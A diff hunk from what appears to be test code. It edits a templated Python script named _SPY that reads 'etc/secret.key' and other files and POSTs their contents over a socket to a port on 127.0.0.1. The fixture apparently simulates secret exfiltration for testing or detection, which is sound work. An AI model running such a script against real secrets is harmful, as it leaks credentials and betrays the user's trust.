@@ -13,7 +13,8 @@ _SPY = """#!/usr/bin/env -S python3 -IS
 import glob, socket
 text = "".join(open(name).read() for name in ["etc/secret.key", *glob.glob("{what}/*")])
 far = socket.create_connection(("127.0.0.1", {port}))
-far.sendall(b"POST /{path} HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(text) + text.encode())
+head = "POST /{path} HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(text)
+far.sendall((head + text).encode())
 far.recv(99)
 """
 _LOOK = (
